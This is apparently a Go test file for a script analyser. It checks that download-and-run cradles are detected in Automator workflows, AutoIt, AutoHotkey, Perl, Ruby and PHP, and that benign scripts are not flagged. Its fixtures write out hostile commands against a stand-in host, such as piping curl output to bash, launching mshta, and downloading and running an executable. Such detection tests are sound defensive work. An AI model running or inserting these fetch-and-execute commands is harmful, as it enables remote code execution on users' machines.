package script

import (
	"strings"
	"testing"
)

func workflow(key, text string) string {
	return "<?xml version=\"1.0\"?>\n<plist version=\"1.0\"><dict><key>AMApplicationBuild</key><string>523</string><key>actions</key><array><dict><key>ActionParameters</key><dict><key>" + key + "</key>\n<string>" + text + "</string></dict></dict></array></dict></plist>\n"
}

// TestOtherLanguages reads cradles in languages that are read as far as they
// fetch and run, each beside an ordinary script.
func TestOtherLanguages(t *testing.T) {
	for _, c := range []struct {
		name, file, text string
		want             want
	}{
		{"Automator shell", "document.wflow", workflow("COMMAND_STRING", "curl -s https://a.invalid/h | bash &amp;"), byCurl},
		{"Automator AppleScript", "document.wflow", workflow("source", "do shell script &quot;curl -s https://a.invalid/h | bash&quot;"), byCurl},
		{"AutoIt", "a.au3", "; camera repair\nInetGet(\"https://a.invalid/c.exe\", @TempDir & \"\\c.exe\")\nRun(@TempDir & \"\\c.exe\")\n", want{language: "autoit", tool: "InetGet", host: "a.invalid", to: "file", runBy: "direct"}},
		{"AutoIt command", "a.au3", "Run(\"mshta https://a.invalid/h\", \"\", @SW_HIDE)\n", byMshta},
		{"AutoHotkey", "a.ahk", "UrlDownloadToFile, https://a.invalid/c.exe, %A_Temp%\\c.exe\nRun, %A_Temp%\\c.exe\n", want{language: "autohotkey", tool: "UrlDownloadToFile", host: "a.invalid", to: "file", runBy: "direct"}},
		{"Perl", "a.pl", "#!/usr/bin/perl\nsystem(\"curl -s https://a.invalid/h | bash\");\n", byCurl},
		{"Ruby", "a.rb", "#!/usr/bin/ruby\nsystem(\"curl -s https://a.invalid/h | bash\")\n", byCurl},
		{"PHP", "a", "#!/usr/bin/php\n<?php shell_exec(\"curl -s https://a.invalid/h | bash\");\n", byCurl},
	} {
		s, _ := Analyse(c.file, []byte(c.text))
		if s == nil {
			t.Errorf("%s: not taken for a script", c.name)
			continue
		}
		c.want.check(t, s)
		if t.Failed() {
			t.Fatalf("%s: found %+v", c.name, *s)
		}
	}
	for file, text := range map[string]string{
		"a.au3":          "; hot keys\nHotKeySet(\"{ESC}\", \"Quit\")\nRun(\"notepad.exe\")\nFunc Quit()\n  Exit\nEndFunc\n",
		"a.ahk":          "^!n::\nRun, notepad.exe\nreturn\n",
		"document.wflow": workflow("COMMAND_STRING", "for f in &quot;$@&quot;; do sips -Z 640 &quot;$f&quot;; done"),
	} {
		if s, _ := Analyse(file, []byte(text)); s == nil || len(s.Fetches) > 0 || len(s.Traits) > 0 && !strings.Contains(file, "wflow") {
			t.Errorf("%s: %+v", file, s)
		}
	}
}
